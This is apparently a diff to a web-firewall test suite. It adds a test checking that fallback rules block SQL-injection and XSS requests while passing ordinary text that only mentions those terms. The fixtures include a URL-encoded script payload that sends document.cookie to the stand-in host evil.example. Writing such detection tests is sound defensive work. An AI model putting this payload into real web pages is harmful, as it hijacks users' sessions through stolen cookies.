@@ -402,6 +402,34 @@ async def test_a_fallback_rule_corroborates_a_model_that_leans_to_attack(stage: 
     assert (await decided(build(off, partial(stage, bad=0.2, attack=0.5)), SQLI)).action is Action.CHALLENGE
 
 
+# a person naming what a signature knows, among words, in a search box and a contact form; the same names used
+MENTIONED = [make_features(target="/search?q=information_schema.tables+best+practice"),
+             make_features("POST", "/contact", [("Host", "shop.example"), ("Content-Type", "application/x-www-form-urlencoded")],
+                           body=b"summary=what+is+document.cookie&phone=coordinates")]
+USED = [make_features(target="/search?q=information_schema.tables"),
+        make_features("POST", "/contact", [("Host", "shop.example"), ("Content-Type", "application/x-www-form-urlencoded")],
+                      body=b"summary=%3Cscript%3Enew+Image().src%3D'//evil.example/'%2Bdocument.cookie%3C/script%3E&phone=1")]
+
+
+@pytest.mark.parametrize("mode", ["rules-only", "forward"])
+async def test_fallback_rules_read_their_signatures_value_by_value(mode: str) -> None:
+    # without the payload detectors in front (cfg_of): the fallback rules alone judge, and a mention is not evidence
+    cfg = cfg_of(rules=SHIPPED_WITH_FALLBACK, challenge={"keys": [KEY]})
+    down = build(cfg, partial(FailingScorer, mode=mode))
+    for f in MENTIONED:
+        v = await down.decide(f)  # type: ignore[misc]
+        assert v.action is Action.FORWARD and v.source is Source.FALLBACK, (f.target, v)
+    for f in USED:
+        v = await down.decide(f)  # type: ignore[misc]
+        assert v.action is Action.BLOCK and v.rule in ("block-sql-injection", "block-xss") and "model unavailable" in v.reason, (f.target, v)
+    # a model leaning to attack is corroborated by a name used, not by a name mentioned
+    leaning = build(cfg, partial(FakeScorer, bad=0.2, attack=0.5))
+    for f in MENTIONED:
+        assert (await leaning.decide(f)).action is Action.CHALLENGE  # type: ignore[misc]
+    for f in USED:
+        assert (await leaning.decide(f)).action is Action.BLOCK  # type: ignore[misc]
+
+
 def test_fallback_rules_apply_without_a_model_and_overrides_reach_both_sets() -> None:
     cfg = cfg_of(rules={**SHIPPED_WITH_FALLBACK, "disabled": ["block-xss", "block-wordpress-probes"]}, challenge={"keys": [KEY]})
     p = build(cfg)
